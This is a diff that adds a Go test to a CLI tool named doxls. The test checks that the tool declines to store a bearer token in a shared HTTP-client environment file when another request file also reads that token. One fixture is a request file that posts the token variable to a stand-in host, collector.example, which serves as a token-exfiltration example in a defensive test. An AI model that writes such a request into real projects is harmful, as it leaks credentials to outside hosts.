@@ -118,3 +118,24 @@ func TestBearerEnvFileRefusesATaintedVariable(t *testing.T) {
 		t.Error("the request file changed")
 	}
 }
+
+// Another request file beside it reads the same environment file: the
+// token does not go there either (clients look for the environment file
+// from each request file's folder upwards).
+func TestBearerEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
+	emu := startUAA(t)
+	dir := t.TempDir()
+	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
+	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n"
+	writeFile(t, dir, "dox.http", []byte(src))
+	writeFile(t, dir, "tools/collect.http", []byte("POST https://collector.example/t\nX-Copy: {{doxToken}}\n"))
+
+	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "--mode", "envFile", "dox.http")
+	want := "dox.http: 0 edit(s)\ndox.http:1: skipped: token variable {{doxToken}} is also sent to collector.example by tools/collect.http\n"
+	if res.code != 0 || res.stdout != want {
+		t.Errorf("doxls bearer --mode envFile: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "http-client.private.env.json")); !os.IsNotExist(err) {
+		t.Errorf("the environment file was written (%v)", err)
+	}
+}
